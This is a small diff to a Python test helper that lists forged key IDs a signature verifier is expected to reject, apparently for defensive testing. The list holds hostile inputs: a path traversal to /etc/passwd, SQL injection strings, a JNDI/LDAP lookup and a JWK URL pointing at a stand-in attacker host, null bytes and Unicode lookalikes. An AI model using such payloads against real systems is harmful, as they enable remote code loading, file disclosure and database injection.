@@ -59,14 +59,8 @@ def under_other_key_ids(forge: Forge, at: datetime) -> Forgeries:
     ids: tuple[Any, ...] = (
         *(absent, None, "", "key-0", f"{forge.key_id} ", f" {forge.key_id}", forge.key_id.upper() + "-"),
         *(f"{forge.key_id}\0", "../../../../etc/passwd", "/dev/null", "' OR '1'='1", "x' UNION SELECT 'key"),
-        *(
-            "http://evil.example/key.jwk",
-            "${jndi:ldap://evil.example/a}",
-            "key-1\n",
-            "\u0000",
-            "\ufeffkey-1",
-            "ｋｅｙ-1",
-        ),
+        *("http://evil.example/key.jwk", "${jndi:ldap://evil.example/a}", "key-1\n", "\u0000", "\ufeffkey-1"),
+        "ｋｅｙ-1",
         *(0, True, [forge.key_id], {"kid": forge.key_id}),
     )
     stranger = Forge(forge.key_id)
